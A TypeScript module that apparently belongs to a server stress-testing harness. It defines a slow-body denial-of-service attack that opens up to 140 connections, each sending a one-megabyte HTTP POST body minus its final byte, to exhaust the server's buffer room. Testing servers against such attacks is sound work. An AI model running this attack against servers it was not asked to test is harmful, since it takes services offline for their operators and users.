/** Bodies of one megabyte that are sent except for their ends, until the server has no room for more. */
import type { Attack } from "./attack.ts";
import { silentClients } from "./silent-clients.ts";

const BODY_BYTES = 1_000_000;
/** More than the server has room for, however many connections a network may have. */
const BODIES = 140;

export const bigBodies: Attack = {
  name: "big bodies without an end",
  input: `${BODIES} bodies of a megabyte, each but for its last byte`,
  begin: ({ endpoint, networkConnectionsMax }) => {
    const head = `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
    const bytes = Buffer.concat([Buffer.from(head), Buffer.alloc(BODY_BYTES - 1, 0x20)]);
    return silentClients(endpoint, Math.min(BODIES, networkConnectionsMax), bytes);
  },
};
